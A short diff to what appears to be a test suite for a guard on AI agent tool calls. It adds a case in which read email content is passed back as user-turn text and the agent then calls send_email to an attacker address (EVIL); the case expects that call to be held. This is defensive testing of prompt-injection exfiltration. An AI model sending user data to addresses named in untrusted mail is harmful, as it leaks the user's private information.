@@ -124,6 +124,13 @@ const CASES: Case[] = [
     `{"to":"${EVIL}"}`,
     'ALLOW',
   ],
+  [
+    'a native read answered in a user turn’s text (no tool result)',
+    (w) => [{ u: USER }, { items: [readMail(w, 'r0', '')[0]!] }, { u: `Result of read_email:\n${MAIL}` }],
+    'send_email',
+    `{"to":"${EVIL}"}`,
+    HELD,
+  ],
   ['parallel reads, results out of order', parallel, 'send_email', `{"to":"${EVIL}"}`, HELD],
   [
     'a legacy chat function result',
